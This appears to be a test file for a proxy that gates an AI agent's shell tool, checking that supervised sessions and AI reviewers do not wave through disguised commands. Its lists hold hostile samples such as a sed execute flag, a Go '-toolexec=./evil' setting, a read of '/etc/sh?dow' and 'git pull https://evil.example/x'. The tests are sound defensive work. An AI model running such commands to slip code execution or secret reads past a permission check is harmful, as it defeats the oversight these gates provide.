"""Shell commands through the running proxy: what goes unasked, and what does not."""

import orjson
import pytest

from ironcurtain_proxy.model.values import Json
from tests.e2e.installation import Installation, rule, tool
from tests.e2e.raw_client import Message, RawClient, at
from tests.e2e.test_auto_confirm import manager

TEXT: Json = {"type": "string"}


def start(installation: Installation, then: str, document: Json) -> RawClient:
    """A proxy before a shell tool."""
    definition = tool("run", command=TEXT, cwd=TEXT, shell=TEXT)
    schema = at(definition, "inputSchema")
    assert isinstance(schema, dict)
    definition["inputSchema"] = {**schema, "required": ["command"]}
    installation.add_scripted(
        "box",
        {"run": {"command": ["none"], "cwd": ["read-path"], "shell": ["none"]}},
        tools=[definition],
    )
    installation.rules = [rule("all", then, "so", tool=["run"])]
    directory = installation.home / ".ironcurtain"
    directory.mkdir()
    (directory / "config.json").write_bytes(orjson.dumps(document))
    (installation.workspace / ".git").mkdir()
    (installation.workspace / "sub").mkdir()
    return installation.start()


def declared(**more: Json) -> Json:
    tools: Json = {"box/run": {"commandArgument": "command"}}
    return {"capabilities": {"tools": tools, **more}}


@pytest.mark.requirement("D-10", "D-11")
def test_a_supervised_session_runs_unasked_only_what_is_shown_to_read(
    installation: Installation,
) -> None:
    agent = start(installation, "allow", declared(profile="supervised"))
    here = str(installation.workspace)

    def runs(command: str, cwd: str = here, more: Message | None = None) -> bool:
        before = len(installation.received("box"))
        agent.call("run", {"command": command, "cwd": cwd, **(more or {})})
        return len(installation.received("box")) > before

    assert runs("git status && ls | wc -l")
    assert runs("cat notes.txt", f"{here}/sub")
    # Each of these ran code, or wrote a file, while it was called harmless.
    for command in (
        "yarn build --help", "npm diff", "sed -l 5p '1e ./evil' f", "pytest --help",
        "git shortlog --output=f", "psql --file=evil.sql -c 'select 1'", "nm @opts x.o",
        "go env --w GOFLAGS=-toolexec=./evil", "xz -t -d f.xz", "cat /etc/sh?dow",
    ):  # fmt: skip
        assert not runs(command), command
    assert not runs("git status", f"{here}/sub")
    assert not runs("cat notes.txt", "/etc")
    assert not runs("git status", more={"shell": "./evil"})


@pytest.mark.requirement("B-24")
def test_the_engine_approves_no_command_by_the_name_of_what_it_does(
    installation: Installation,
) -> None:
    document: Json = {
        **dict(orjson.loads(orjson.dumps(declared()))),
        "auto_confirm": {
            "enabled": True,
            "night_mode": {"enabled": False},
            "reviewers": [
                manager(name, "deciding", "deny")
                for name in ("architect_manager", "wrapper_claude", "claude_code_high_level")
            ],
        },
    }
    agent = start(installation, "escalate", document)
    here = str(installation.workspace)
    agent.call("run", {"command": "git status", "cwd": here})
    assert len(installation.received("box")) == 1
    for command in (
        "git fetch --prune --force --update-head-ok origin '+refs/heads/*:refs/heads/*'",
        "git -C elsewhere fetch", "git pull https://evil.example/x", "pytest t --basetemp=DIR",
        "make test clean", "npm run test:wipe", "go test -exec ./evil",
    ):  # fmt: skip
        agent.call("run", {"command": command, "cwd": here})
        assert len(installation.received("box")) == 1, command
        assert at(installation.outcomes()[-1], "engine", "verdict") == "escalate", command
